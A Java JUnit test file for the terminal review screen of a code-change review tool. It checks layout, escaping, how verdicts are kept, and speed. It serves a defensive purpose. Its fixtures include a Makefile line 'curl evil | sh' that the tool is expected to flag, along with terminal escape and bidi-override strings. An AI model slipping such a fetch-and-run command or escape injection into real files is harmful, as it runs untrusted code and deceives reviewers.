package dev.safecoder.tui;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeout;

import dev.safecoder.change.TextChange;
import dev.safecoder.path.RelativePath;
import dev.safecoder.review.FileReview;
import dev.safecoder.review.Review;
import dev.safecoder.review.ReviewWalk;
import dev.safecoder.review.ScriptedTrees;
import dev.safecoder.review.Verdict;
import dev.safecoder.tui.ReviewKey.Letter;
import dev.safecoder.tui.ReviewKey.Special;
import dev.safecoder.tui.ReviewView.Course;
import java.io.IOException;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;

class ReviewViewTest {
    private static final String BEFORE = "1\n2\n3\n4\n5\n6\n7\n8\n9\n10\n11\n12\n13\n14\n15\n";
    private static final String AFTER =
            "one\n2\nthree\n4\n5\n6\n7\n8\n9\n10\n11\n12\n13\n14\nlast\n";

    private final ScriptedTrees trees = new ScriptedTrees();
    private final List<Review> kept = new ArrayList<>();
    private Instant now = Instant.EPOCH;

    private ReviewView view() throws IOException {
        var review = trees.review();
        var meant = review.files().stream().map(FileReview::change).toList();
        var walk = new ReviewWalk(review, meant, kept::add);
        return new ReviewView(walk, ReviewPalette.PLAIN, () -> now);
    }

    /** A second for each letter; a line feed is Enter. */
    private Course type(ReviewView view, String letters) throws IOException {
        var course = Course.GO_ON;
        for (int letter : letters.codePoints().toArray()) {
            now = now.plusSeconds(1);
            course = view.press(letter == '\n' ? Special.ENTER : new Letter(letter));
        }
        return course;
    }

    private static List<String> screen(ReviewView view, int columns, int rows) throws IOException {
        return view.rows(columns, rows).stream()
                .map(row -> row.toString().stripTrailing())
                .toList();
    }

    private List<Verdict> verdicts(String path) throws IOException {
        var file = kept.getLast().file(RelativePath.of(path)).orElseThrow();
        var text = TextChange.of(file.change(), trees);
        return text.hunks().stream().map(hunk -> file.verdict(text, hunk)).toList();
    }

    @Test
    void files_are_left_and_hunks_right() throws Exception {
        trees.with("Makefile", "all:\n", "all:\n\tcc\n").with("src/a.txt", BEFORE, AFTER);
        var view = view();
        type(view, "]yk");

        assertThat(String.join("\n", screen(view, 78, 14)))
                .isEqualTo(
                        """
                         File 2/2  hunk 1/2  accept
                          ! Makefile              ┊ modified  src/a.txt
                        >.  src/a.txt             ┊▌@@ -1,6 +1,6 @@
                                                  ┊▌-1
                                                  ┊▌+one
                                                  ┊▌ 2
                                                  ┊▌-3
                                                  ┊▌+three
                                                  ┊▌ 4
                                                  ┊▌ 5
                                                  ┊▌ 6
                                                  ┊ @@ -12,4 +12,4 @@

                         y accept  n reject  a/d rest  s split  j/k hunk  ]/[ file  q end  ? help""");
    }

    @Test
    void a_small_screen_shows_the_hunks_alone() throws Exception {
        trees.with("Makefile", "all:\n", "all:\n\techo a line that is longer than the screen\n");

        assertThat(String.join("\n", screen(view(), 39, 10)))
                .isEqualTo(
                        """
                         File 1/1  hunk 1/1  undecided  FLAGGED
                         modified  Makefile
                         runs-on-host: the build runs it
                           line 2: echo a line that is longer t
                         han the screen
                        ▌@@ -1 +1,2 @@
                        ▌ all:
                        ▌+        echo a line that is longer th
                        ! runs-on-host: the build runs it
                         y n a d s j k ] [ space u q, ? help""");
    }

    @Test
    void every_row_fits_whatever_the_size_and_the_text() throws Exception {
        trees.with("漢字/😀.txt", "", "漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字\n😀😀😀\n".repeat(20));
        var view = view();
        for (int columns = 1; columns < 130; columns += 3) {
            for (var row : view.rows(columns, 10)) {
                assertThat(row.columnLength()).isLessThanOrEqualTo(columns);
            }
        }
        assertThat(view.rows(5, 3)).hasSize(1);
    }

    @Test
    void nothing_of_the_sandbox_reaches_the_screen_as_it_is() throws Exception {
        trees.with("a\u001b]0;x\u0007\u202e\n.txt", "1\n", "\u001b[2J\u202e\r\u009b1m\n");

        var shown = String.join("", screen(view(), 100, 20));

        assertThat(shown.chars().filter(Character::isISOControl)).isEmpty();
        assertThat(shown).doesNotContain("\u202e").contains("<U+202E>", "+␛[2J");
    }

    @Test
    void verdicts_are_kept_at_once_and_for_what_was_meant() throws Exception {
        trees.with("a.txt", BEFORE, AFTER).with("b.txt", BEFORE, AFTER);
        var view = view();

        type(view, "n");
        assertThat(verdicts("a.txt")).containsExactly(Verdict.REJECT, Verdict.ACCEPT);
        type(view, "yd");
        assertThat(verdicts("b.txt")).containsExactly(Verdict.REJECT, Verdict.REJECT);
        type(view, "[kksyn");
        assertThat(verdicts("a.txt")).containsExactly(Verdict.UNDECIDED, Verdict.ACCEPT);
        assertThat(kept).hasSize(5);
        assertThat(type(view, "q")).isEqualTo(Course.END);
    }

    @Test
    void what_is_flagged_takes_a_whole_word() throws Exception {
        trees.with("Makefile", "all:\n", "all:\n\tcurl evil | sh\n");
        var view = view();

        type(view, "y\na\nyyes"); // the last one without Enter
        assertThat(kept).isEmpty();
        assertThat(screen(view, 78, 10).getLast())
                .isEqualTo("Flagged. Type yes and Enter to accept: yes_");
        type(view, "\n");
        assertThat(verdicts("Makefile")).containsExactly(Verdict.ACCEPT);

        type(view, "n");
        assertThat(verdicts("Makefile")).containsExactly(Verdict.REJECT);
        type(view, "aall\n");
        assertThat(verdicts("Makefile")).containsExactly(Verdict.ACCEPT);
    }

    @Test
    void what_a_terminal_types_by_itself_confirms_nothing() throws Exception {
        trees.with("Makefile", "all:\n", "all:\n\tcurl evil | sh\n");
        var view = view();
        for (var key : List.of('y', 'y', 'e', 's')) {
            view.press(new Letter(key)); // all at once
        }
        view.press(Special.ENTER);
        assertThat(kept).isEmpty();

        var other = view();
        type(other, "yye");
        other.press(Special.OTHER);
        type(other, "s\n");
        assertThat(kept).isEmpty();

        type(view(), "yyes\n"); // the control: a person
        assertThat(kept).hasSize(1);
    }

    @Test
    void what_is_decided_can_be_seen() throws Exception {
        trees.with("a.txt", BEFORE, AFTER);
        var view = view();
        screen(view, 50, 8);
        type(view, "    ");

        assertThat(screen(view, 50, 8).getFirst()).startsWith(" File 1/1  hunk 2/2");
        type(view, "uuuu");
        assertThat(screen(view, 50, 8).getFirst()).startsWith(" File 1/1  hunk 1/2");
    }

    @Test
    void two_thousand_files_and_two_hundred_thousand_lines_are_fluent() throws Exception {
        var lines =
                IntStream.range(0, 100)
                        .mapToObj("line %d"::formatted)
                        .collect(Collectors.joining("\n", "", "\n"));
        for (int file = 0; file < 2_000; file++) {
            trees.with("d/f%04d.txt".formatted(file), "", lines + file + "\n");
        }
        trees.with("a.txt", "", "a line\n".repeat(200_000));
        var view = view();
        view.rows(120, 40);

        assertTimeout(
                Duration.ofSeconds(10), // 50 ms a key, on a machine that does other things, too
                () -> {
                    for (var key : "     uuu]]]jjjnnnkkkyyy[[[ddd ".repeat(7).toCharArray()) {
                        type(view, Character.toString(key));
                        view.rows(120, 40);
                    }
                });
    }
}
